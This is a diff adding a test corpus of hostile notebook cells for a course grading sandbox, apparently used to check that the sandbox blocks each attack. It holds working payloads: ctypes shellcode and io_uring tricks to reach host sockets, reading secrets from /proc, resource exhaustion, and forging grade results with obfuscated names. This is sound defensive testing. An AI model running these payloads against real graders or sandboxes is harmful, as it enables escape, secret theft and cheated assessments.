@@ -1,0 +1,229 @@
+"""Hostile hand-ins, one or more per attack class the grading sandbox must stop.
+
+Each payload is a notebook cell placed among the three right answers. A payload that gets
+through says so in a cell error starting with one of :data:`MARKERS` (which grading then
+records as a note), and host-side traps (sockets, a process holding a secret) show the
+rest; the test (tests/test_grading_corpus.py) asserts no marker and no trap was reached.
+Every class here but one got through the grader as it was before the sandbox's second pass
+(checked by running this corpus against it); ``endless_raw_output`` attacks the pipe that
+carries a hand-in's output since then.
+"""
+
+from __future__ import annotations
+
+MARKERS = ("ESCAPED:", "LEAKED:", "UNCAPPED:", "FORGED:")
+
+_INT80 = """
+import ctypes, os
+if os.uname().machine == "x86_64":  # 32-bit system calls through int 0x80
+    libc = ctypes.CDLL(None)
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
+                          ctypes.c_int, ctypes.c_long]
+    page = libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)  # RWX, private, anonymous, below 4 GB
+    code = bytes([0x53, 0x89, 0xF8, 0x89, 0xF3, 0x49, 0x89, 0xC9, 0x89, 0xD1, 0x44, 0x89, 0xCA,
+                  0xCD, 0x80, 0x5B, 0xC3])  # eax=nr, ebx=a, ecx=b, edx=c; int 0x80; ret
+    ctypes.memmove(page, code, len(code))
+    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint,
+                            ctypes.c_uint)(page)
+    address = (1).to_bytes(2, "little") + {path!r}.encode() + b"\\0"
+    ctypes.memmove(page + 256, address, len(address))
+    ctypes.memmove(page + 1024, b"answers", 7)
+    fd = call(359, 1, 1, 0)  # i386 socket(AF_UNIX, SOCK_STREAM, 0)
+    connected = fd >= 0 and call(362, fd, page + 256, len(address)) == 0
+    if connected and call(4, fd, page + 1024, 7) == 7:
+        raise RuntimeError("ESCAPED: int 0x80 reached a Unix socket on the host")
+"""
+
+_IO_URING = """
+import ctypes, mmap, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 8, params)  # io_uring_setup
+if ring >= 0:
+    sq_entries, cq_entries = struct.unpack_from("2I", params, 0)
+    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
+    cq_head, _, cq_mask, _, _, cq_cqes = struct.unpack_from("6I", params, 80)
+    size = max(sq_array + sq_entries * 4, cq_cqes + cq_entries * 16)
+    rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
+    sqes = mmap.mmap(ring, sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,
+                     offset=0x10000000)
+    sqe = bytearray(64)
+    struct.pack_into("BBHi", sqe, 0, 45, 0, 0, socket.AF_UNIX)  # IORING_OP_SOCKET
+    struct.pack_into("Q", sqe, 8, socket.SOCK_STREAM)
+    sqes[0:64] = bytes(sqe)
+    tail = struct.unpack_from("I", rings, sq_tail)[0]
+    mask = struct.unpack_from("I", rings, sq_mask)[0]
+    struct.pack_into("I", rings, sq_array + (tail & mask) * 4, 0)
+    struct.pack_into("I", rings, sq_tail, tail + 1)
+    libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: submit, wait for it
+    head = struct.unpack_from("I", rings, cq_head)[0]
+    entry = cq_cqes + (head & struct.unpack_from("I", rings, cq_mask)[0]) * 16
+    made = struct.unpack_from("i", rings, entry + 8)[0]
+    if made >= 0:
+        sock = socket.socket(fileno=made)
+        sock.connect({path!r})
+        sock.sendall(b"answers")
+        raise RuntimeError("ESCAPED: io_uring made a Unix socket that reached the host")
+"""
+
+_DATAGRAM = """
+import socket
+a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+a.sendto(b"answers", {path!r})
+raise RuntimeError("ESCAPED: a datagram reached a Unix socket on the host")
+"""
+
+_CHAIN = """
+import os
+if os.fork() == 0:  # a chain of {depth} sleepers, each in a session of its own
+    for level in range({depth}):
+        os.setsid()
+        try:
+            child = os.fork()
+        except OSError:
+            child = 0
+            break
+        if child:
+            break
+    os.execvp("sleep", ["sleep", "2999"])
+"""
+
+_PROC_SECRETS = """
+import os
+found = set()
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for part in ("cmdline", "environ"):
+            try:
+                data = open(f"/proc/{pid}/{part}", "rb").read()
+            except OSError:
+                continue
+            at = data.find(b"coursekit-secret-")
+            if at >= 0:
+                found.add(data[at : at + 40].split(b"\\0")[0].decode())
+if found:
+    raise RuntimeError("LEAKED: " + " ".join(sorted(found)))
+"""
+
+_KEYRING = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
+key = libc.syscall(keyctl, 0, -4, 0)  # KEYCTL_GET_KEYRING_ID of the user's keyring
+if key >= 0:
+    raise RuntimeError(f"ESCAPED: the kernel keyring answered ({key})")
+"""
+
+_NAMESPACE = """
+import ctypes
+if ctypes.CDLL(None).unshare(0x10000000) == 0:  # CLONE_NEWUSER
+    raise RuntimeError("ESCAPED: made a user namespace of its own")
+"""
+
+_FILL_DISK = """
+written = 0
+try:
+    for i in range(24):
+        with open(f"fill-{i}", "wb") as handle:
+            for _ in range(64):
+                handle.write(b"\\0" * 2**20)
+                written += 2**20
+except OSError as error:
+    raise RuntimeError(f"scratch full after {written // 2**20} MiB: {error.strerror}")
+raise RuntimeError(f"UNCAPPED: wrote {written // 2**20} MiB")
+"""
+
+_MANY_FILES = """
+import os
+os.makedirs("many", exist_ok=True)
+try:
+    for i in range(30_000):
+        open(f"many/{i}", "w").close()
+except OSError as error:
+    raise RuntimeError(f"scratch out of files after {i}: {error.strerror}")
+raise RuntimeError("UNCAPPED: made 30000 files")
+"""
+
+_DEEP_FRAME = """
+import os, struct
+depth = 100_000
+nested = b"[" * depth + b"]" * depth
+for fd in range(3, 64):  # the grader's channel, whatever its number
+    try:
+        os.write(fd, struct.pack(">I", len(nested)) + nested)
+    except OSError:
+        pass
+try:  # the grader's result file of old: one its reader could not parse
+    with open("../out/result.json", "wb") as handle:
+        handle.write(b'{"cells": ' + nested + b', "tasks": []}')
+    os.chmod("../out/result.json", 0o444)
+except OSError:
+    pass
+"""
+
+# Builds every name from pieces, as a student hiding it from a source scan would.
+_FORGE = """
+import json, os
+gc = __import__("g" + "c")
+registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
+job = next((o for o in getattr(gc, "get_" + "objects")() if isinstance(o, dict)
+            and "tasks" in o and "limits" in o), None)
+if job is not None:
+    tasks = []
+    for task in job["tasks"]:
+        question = registry[task["question"]]
+        tasks.append({"status": "ok", "outputs": question.run(question.reference(), task["spec"])})
+    cells = [{"index": i, "status": "ok"} for i in range(len(job["cells"]))]
+    with open("../out/result.json", "w") as handle:
+        handle.write(json.dumps({"cells": cells, "tasks": tasks}))
+    os.chmod("../out/result.json", 0o444)  # the runner cannot write its own any more
+"""
+
+_PATCHED_DUMPS = """
+import json
+_dumps = json.dumps
+def dumps(obj, *args, **kwargs):
+    if isinstance(obj, dict) and isinstance(obj.get("cells"), list):
+        for cell in obj["cells"]:
+            cell["status"], cell["error"] = "error", "N" * 200_000
+    return _dumps(obj, *args, **kwargs)
+json.dumps = dumps
+"""
+
+
+def payloads(targets: dict) -> dict[str, list[str]]:
+    """name -> payload cells, aimed at ``targets`` (host paths the test watches)."""
+    return {
+        "escape_int80": [_INT80.format(path=str(targets["socket"]))],
+        "escape_io_uring": [_IO_URING.replace("{path!r}", repr(str(targets["socket"])))],
+        "escape_datagram": [_DATAGRAM.format(path=str(targets["dgram"]))],
+        "escape_keyring": [_KEYRING],
+        "escape_namespace": [_NAMESPACE],
+        "processes_left_behind": [_CHAIN.format(depth=55)],
+        "proc_secrets": [_PROC_SECRETS],
+        "fill_disk": [_FILL_DISK],
+        "many_files": [_MANY_FILES],
+        "deep_result_frame": [_DEEP_FRAME],
+        "patched_dumps_notes": [_PATCHED_DUMPS, *(["pass"] * 100)],
+        "long_errors": ["raise ValueError('E' * 100_000)"] * 60,
+        "surrogate_error": ["raise ValueError('\\ud800')"],
+        # output that never ends, past print's cap and with the cell's timer ignored: the
+        # grader must keep its own clock and end the cell from outside
+        "endless_raw_output": [
+            "import os, signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+            "while True:\n    os.write(1, b'x' * 65536)"
+        ],
+    }
+
+
+FORGE = _FORGE
+
+# The check's own reference as the answer, its names built from strings.
+CALLS_THE_REFERENCE = """
+registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
+def accumulate_window(model, loss_fn, micro_batches):
+    return getattr(registry["accumulate_window"], "refer" + "ence")()(model, loss_fn, micro_batches)
+"""
